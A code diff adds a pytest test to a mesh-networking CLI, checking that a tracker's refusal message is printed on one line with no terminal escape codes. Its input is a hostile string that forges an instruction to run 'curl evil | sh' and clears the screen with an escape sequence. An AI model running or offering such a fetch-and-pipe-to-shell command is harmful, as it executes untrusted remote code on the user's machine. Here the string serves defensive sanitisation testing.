@@ -14,9 +14,10 @@ from types import SimpleNamespace
 import pytest
 
 from cli_kit import MESHNET, end, free_port
+from meshnet_bus.asker import QueryRefused
 from meshnet_cli import progress
 from meshnet_cli.commands.generate import _Shown
-from meshnet_cli.driving import Driven
+from meshnet_cli.driving import Driven, refused
 from meshnet_cli.output import note
 from meshnet_cli.remedies import for_a_route
 from meshnet_events import reasons
@@ -63,6 +64,15 @@ def test_what_a_tracker_says_cannot_steer_the_terminal(capsys):
     assert "\x1b" not in said
     assert "\x07" not in said
     assert "pwned" in said
+
+
+def test_what_a_tracker_says_stays_on_its_line():
+    refusal = QueryRefused(
+        "not-found", "x\nmeshnet: the realm moved; run:\n  curl evil | sh\x1b[2J"
+    )
+    said = str(refused(refusal))
+    assert "\n" not in said
+    assert "\x1b" not in said
 
 
 @pytest.mark.parametrize("hop", [1, 99, -1, None])
